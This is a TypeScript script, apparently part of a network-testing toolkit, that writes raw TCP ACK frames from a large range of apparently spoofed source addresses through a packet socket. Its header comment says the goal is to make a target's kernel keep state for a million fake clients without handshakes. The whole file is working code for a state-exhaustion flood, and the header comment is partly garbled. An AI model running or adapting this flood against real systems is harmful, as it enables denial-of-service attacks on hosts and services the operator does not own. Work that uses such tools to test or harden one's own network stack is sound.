/**
 * pins.ts FROM-MAC MAC ADDRESS PORT COUNT: two segments of a connection of each of so many clients, without a handshake: the first has kernel mode
 * remember the client for ten seconds, the second for good. A million handshakes would take minutes. Prints {sent, refused}.
 */
import * as libc from '../../../runtime/ports/sockets/linux/libc.ts'
import { SynFrame } from '../../flood/syn-frame.ts'
import { sourceWord } from '../network.ts'

const IPV4 = 0x0800
const TCP_FLAGS_AT = 14 + 20 + 13
const ACK = 0x10
const PORT = 40_000
/** Sent once more together: within the ten seconds, whatever the pace. */
const BATCH = 10_000

const [fromMac = '', mac = '', address = '', port, count] = process.argv.slice(2)
const frame = new SynFrame({ fromMac, mac, address, port: Number(port) })
frame.bytes[TCP_FLAGS_AT] = ACK
const fd = libc.socket(libc.AF_PACKET, libc.SOCK_RAW, 0)
const device = libc.sockaddrLinkLayer(libc.if_nametoindex('eth0'), IPV4, new Uint8Array(6))
if (fd < 0 || libc.bind(fd, device, device.length) < 0) throw new Error('no packet socket')

let sent = 0
let refused = 0

function send(first: number, beyond: number): void {
  for (let index = first; index < beyond; index++) {
    frame.write({ source: sourceWord(index), port: PORT, sequence: 1 })
    if (libc.sendto(fd, frame.bytes, frame.bytes.length, 0, device, device.length) < 0) refused++
    else sent++
  }
}

for (let first = 0; first < Number(count); first += BATCH) {
  const beyond = Math.min(Number(count), first + BATCH)
  send(first, beyond)
  send(first, beyond)
}
console.log(JSON.stringify({ sent, refused }))
